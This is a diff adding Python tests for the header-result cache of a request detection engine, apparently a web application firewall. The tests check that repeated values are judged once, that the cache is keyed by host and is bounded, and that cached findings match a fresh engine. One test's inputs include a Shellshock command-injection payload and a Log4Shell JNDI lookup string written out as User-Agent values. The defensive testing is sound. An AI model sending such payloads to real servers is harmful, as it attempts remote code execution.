@@ -127,3 +127,71 @@ def test_megabyte_of_nasty_input_in_bounded_time() -> None:
     elapsed = time.process_time() - start
     # Generous bound (shared CI machines): the point is linear time, not speed.
     assert elapsed < 30.0, elapsed
+
+
+class _CountingDetector:
+    """Flags a header value containing "evil"; counts its calls and the hosts it saw."""
+
+    name = "counting"
+    triggers: tuple[str, ...] = ("evil", "gecko")
+
+    def __init__(self) -> None:
+        self.calls = 0
+        self.hosts: list[str] = []
+
+    def detect(self, value: Value, location: str, paranoia: int) -> list[Finding]:
+        from sealgate.detectors.context import current_context
+
+        self.calls += 1
+        context = current_context()
+        self.hosts.append(context.host if context else "")
+        if "evil" not in value.lower:
+            return []
+        return [Finding("counting", "evil", "evil", "critical", location, "evil")]
+
+
+def _ua_exchange(user_agent: str, host: str = "api.example") -> Exchange:
+    return Exchange(method="GET", path="/a", raw_path=b"/a", headers=[("host", host), ("user-agent", user_agent)])
+
+
+def test_repeated_header_values_are_judged_once_with_the_same_findings() -> None:
+    detector = _CountingDetector()
+    engine = DetectionEngine([detector])
+    for _ in range(3):
+        assert engine.inspect(_ua_exchange("Mozilla/5.0 (KHTML, like Gecko)")) == []
+        found = engine.inspect(_ua_exchange("evil-bot/1.0"))
+        assert [(f.rule_id, f.location) for f in found] == [("evil", "header.user-agent")]
+    assert detector.calls == 2  # once per distinct value, not once per request
+
+
+def test_the_header_cache_is_keyed_by_request_context() -> None:
+    detector = _CountingDetector()
+    engine = DetectionEngine([detector])
+    engine.inspect(_ua_exchange("evil-bot/1.0", host="a.example"))
+    engine.inspect(_ua_exchange("evil-bot/1.0", host="b.example"))
+    engine.inspect(_ua_exchange("evil-bot/1.0", host="a.example"))
+    assert detector.hosts == ["a.example", "b.example"]
+
+
+def test_the_header_cache_is_bounded() -> None:
+    from sealgate.detectors.engine import HEADER_CACHE_ENTRIES
+
+    detector = _CountingDetector()
+    engine = DetectionEngine([detector])
+    for number in range(HEADER_CACHE_ENTRIES + 200):
+        engine.inspect(_ua_exchange(f"evil-bot/{number}"))
+    assert len(engine._header_cache) == HEADER_CACHE_ENTRIES
+    first = detector.calls
+    engine.inspect(_ua_exchange("evil-bot/0"))  # the oldest was dropped: judged again
+    assert detector.calls == first + 1
+
+
+def test_cached_findings_match_a_fresh_engine_for_real_detectors() -> None:
+    agents = ["Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0 Safari/537.36",
+              "sqlmap/1.7.2#stable (https://sqlmap.org)", "() { :; }; /bin/bash -c 'id'", "${jndi:ldap://x/a}"]
+    engine = DetectionEngine()
+    for _ in range(2):
+        for agent in agents:
+            expected = DetectionEngine().inspect(_ua_exchange(agent))
+            assert engine.inspect(_ua_exchange(agent)) == expected
+    assert DetectionEngine().inspect(_ua_exchange(agents[1]))  # the comparison includes real findings
